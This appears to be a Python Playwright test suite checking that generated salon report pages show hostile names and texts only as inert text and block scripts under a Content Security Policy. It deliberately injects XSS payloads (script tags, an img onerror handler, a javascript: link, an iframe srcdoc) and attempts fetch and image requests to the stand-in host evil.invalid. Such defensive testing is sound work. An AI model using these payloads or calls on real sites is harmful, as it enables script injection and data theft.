"""Whatever clients and makers wrote is text on the page: it runs nothing, links nowhere and adds no element."""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, Request, expect

from reports.books import SALON_PAGES
from tests.reports.chain_filled import COUNT, HACKS, TEXTS
from tests.reports.site_reading import find_salon, parse, read_dialogs
from tests.support.browser import Watched
from tests.support.marts import Workshop

SHOWN_LONG = 5_000
"""Longer texts are compared by page, not letter by letter in every test."""
COUNT_ELEMENTS = (
    "() => Object.fromEntries(['script', 'iframe', 'a', 'img', 'form', 'object', 'embed', 'base', 'meta', 'style', "
    "'link', 'input', 'select', 'textarea', 'svg', 'dialog', 'table', 'section', 'details', 'math', "
    "'button', 'option']"
    ".map(name => [name, document.querySelectorAll(name).length]))"
)
HANDLERS = (
    "() => [...document.querySelectorAll('*')].filter(element => [...element.attributes]"
    ".some(({ name, value }) => name.startsWith('on') || ['srcdoc', 'autofocus'].includes(name)"
    " || ['href', 'xlink:href', 'src', 'action', 'formaction', 'data', 'content'].includes(name)"
    " && /^\\s*(java|vb)script:/i.test(value))).map(element => element.outerHTML.slice(0, 200))"
)


DIALS = "() => [...document.querySelectorAll('a[href^=tel]')].map(link => link.getAttribute('href'))"


@pytest.fixture(scope="module")
def folders(chain: Workshop, owner_site: Path) -> dict[str, Path]:
    """The folders of the harmless and of the hostile salon."""
    return {salon: owner_site / find_salon(chain, salon) for salon in ("north", "far")}


@pytest.fixture
def watched(watched: Watched) -> Iterator[Watched]:
    """A page that nothing may have taken over by the end of the test."""
    yield watched
    expect_untouched(watched)


def expect_untouched(watched: Watched) -> None:
    """Fail when a text ran, popped up or asked the network."""
    watched.expect_peace()
    assert watched.page.evaluate("window.hacked") is None
    assert watched.page.evaluate(HANDLERS) == []


def show_all(page: Page) -> None:
    """Make long tables show a hundred rows at once, and go through all of them."""
    for field in page.locator(".dt-length select").all():
        field.select_option("100")
    for following in page.locator("button.next").all():
        while following.is_enabled() and "disabled" not in (following.get_attribute("class") or ""):
            following.click()


@pytest.mark.parametrize(("language", "name"), [*(("ru", name) for name in SALON_PAGES), ("en", "index")])
def test_a_hostile_salons_page_has_the_elements_of_a_harmless_one_and_lets_no_script_in(
    watched: Watched, folders: dict[str, Path], name: str, language: str
) -> None:
    page = watched.visit(folders["north"] / language / f"{name}.html")
    harmless = page.evaluate(COUNT_ELEMENTS)
    harmless["a"] -= len(page.evaluate(DIALS))
    page = watched.visit(folders["far"] / language / f"{name}.html")
    hostile = page.evaluate(COUNT_ELEMENTS)
    # Phones that dial are as many as there are phones, and dial nothing else.
    dials = page.evaluate(DIALS)
    assert [href for href in dials if not re.fullmatch(r"tel:\+?[0-9]+", href)] == []
    hostile["a"] -= len(dials)
    # What is wished for is called nothing in a few cases, and options of equal text are one.
    assert {
        element: (count, hostile[element]) for element, count in harmless.items() if count != hostile[element]
    } == {}
    assert hostile["iframe"] == hostile["object"] == hostile["base"] == 0
    show_all(page)
    expect_untouched(watched)
    bring_scripts_in(page)
    assert page.evaluate("window.hacked") is None
    assert watched.requests == []
    assert any("Content Security Policy" in complaint for complaint in watched.complaints)
    watched.clear()


def bring_scripts_in(page: Page) -> None:
    """Put into a page what it should have kept out, and wait until it would have run."""
    assert page.locator("head meta[http-equiv=Content-Security-Policy]").count() == 1
    page.evaluate(
        "() => { const script = document.createElement('script'); script.textContent = 'window.hacked = 1';"
        " document.body.append(script);"
        " document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hacked = 1\">"
        '<a id=trap href="javascript:window.hacked=1">x</a><iframe srcdoc="<script>parent.hacked=1</script>">'
        "</iframe>'); document.querySelector('#trap').click(); }"
    )
    page.wait_for_timeout(50)


def test_every_name_is_shown_letter_by_letter(watched: Watched, folders: dict[str, Path]) -> None:
    page = watched.visit(folders["far"] / "ru" / "clients.html")
    page.locator(".dt-length select").select_option("100")
    seen: Counter[str] = Counter()
    pages = -(-COUNT // 100)
    for number in range(pages):
        seen.update(page.locator("tbody td.who").evaluate_all("cells => cells.map(cell => cell.textContent)"))
        if number < pages - 1:
            page.locator("button.next").click()
    packed = parse(folders["far"] / "ru" / "clients.html").find_rows("clients")
    place = packed["names"].index("client_name")
    # A parser of HTML reads every end of a line as the same one.
    assert seen == Counter(re.sub(r"\r\n?", "\n", row[place]) for row in packed["rows"])
    shown = {text[:300] for text in TEXTS}
    assert {text for text in shown if text.strip() == text and text.isprintable() and text} <= set(seen)


def test_a_hostile_dialog_is_text(watched: Watched, folders: dict[str, Path]) -> None:
    page = watched.visit(folders["far"] / "ru" / "sessions.html")
    packed = parse(folders["far"] / "ru" / "sessions.html").find_rows("sessions")
    name, session = packed["names"].index("client_name"), packed["names"].index("session_id")
    dialogs = read_dialogs(folders["far"])
    for number, hack in enumerate(HACKS):
        [row] = [row for row in packed["rows"] if row[name] == hack and row[session] in dialogs]
        page.locator(".dt-search input").fill(row[session])
        page.locator("tbody tr .opener").click()
        box = page.locator("dialog[open]")
        lines = box.locator(".messages:not([aria-busy]) li")
        expect(lines).to_have_count(len(dialogs[row[session]]))
        texts = lines.evaluate_all("found => found.map(line => line.lastChild.data)")
        assert texts == [text for _, _, text in dialogs[row[session]]]
        assert (box.locator("h2").text_content() or "").startswith(hack)
        assert box.locator(".summary").text_content() == row[packed["names"].index("summary")] == TEXTS[number + 2]
        assert set(box.locator("*").evaluate_all("found => found.map(part => part.localName)")) == {
            "header", "h2", "button", "p", "ol", "li", "small",
        }, hack  # fmt: skip
        expect_untouched(watched)
        page.keyboard.press("Escape")
        expect(box).to_have_count(0)


def test_hostile_filters_are_text_and_filter(watched: Watched, folders: dict[str, Path]) -> None:
    page = watched.visit(folders["far"] / "ru" / "sessions.html")
    options = page.locator(".filters option").evaluate_all("found => found.map(option => option.textContent)")
    known = [hack for hack in HACKS if hack in options]
    assert len(known) == len(HACKS)
    for hack in known:
        choice = page.locator(".filters select").filter(has=page.locator("option", has_text=hack)).last
        choice.select_option(label=hack)
        expect(page.locator("tbody tr .opener").first).to_be_visible()
        shown = page.locator("tbody tr").evaluate_all("rows => rows.map(row => row.textContent)")
        assert shown
        assert all(hack in text for text in shown)
        choice.select_option(index=0)


@pytest.mark.parametrize("name", ["clients", "sessions", "waitlist", "services"])
def test_hostile_searches_run_nothing(watched: Watched, folders: dict[str, Path], name: str) -> None:
    page = watched.visit(folders["far"] / "ru" / f"{name}.html")
    field = page.locator(".dt-search input").first
    for text in (*HACKS, "((((", "[", "\\", '"', "*", "|", "$&", "!<", "^"):
        field.fill(text)
        expect_untouched(watched)


def test_a_client_with_a_hostile_name_is_found_by_it(watched: Watched, folders: dict[str, Path]) -> None:
    page = watched.visit(folders["far"] / "ru" / "clients.html")
    # Quotes are the search's own signs: what stands between them is looked for as one.
    for hack in (hack for hack in HACKS if '"' not in hack):
        page.locator(".dt-search input").fill(hack)
        expect(page.locator("tbody td.who").filter(has_text=hack).first).to_be_visible()


def test_a_hostile_name_of_a_salon_is_text_in_the_leaderboard(watched: Watched, owner_site: Path) -> None:
    page = watched.visit(owner_site / "ru" / "index.html")
    link = page.locator("td.who a").filter(has_text=HACKS[0])
    assert link.text_content() == HACKS[0]
    axis = page.locator("[data-chart=leaderboard] svg .role-axis-label text").all_text_contents()
    assert any(label.startswith("<img src") for label in axis)
    link.click()
    page.wait_for_url("**/salons/*/ru/index.html")
    expect(page.locator(".salon")).to_have_text(HACKS[0])
    assert page.title().endswith(HACKS[0])


def test_hostile_errors_of_runs_are_text(watched: Watched, owner_site: Path) -> None:
    page = watched.visit(owner_site / "ru" / "runs.html")
    for hack in (HACKS[0], HACKS[1], HACKS[3]):
        expect(page.locator("main")).to_contain_text(hack)


def test_a_page_cannot_send_anything_out(watched: Watched, folders: dict[str, Path]) -> None:
    failed = {}
    page = watched.visit(folders["far"] / "ru" / "index.html")
    watched.expect_peace()

    def note(request: Request) -> None:
        failed[request.url] = request.failure

    page.on("requestfailed", note)
    page.evaluate(
        "async () => { new Image().src = 'https://evil.invalid/image';"
        " await fetch('https://evil.invalid/fetched').catch(() => null); }"
    )
    page.wait_for_timeout(100)
    page.remove_listener("requestfailed", note)
    # By the policy of the page, before it came to the network that the browser has not got.
    assert failed == {"https://evil.invalid/image": "csp"}
    assert any("https://evil.invalid/fetched" in said and "Security Policy" in said for said in watched.complaints)
    watched.clear()
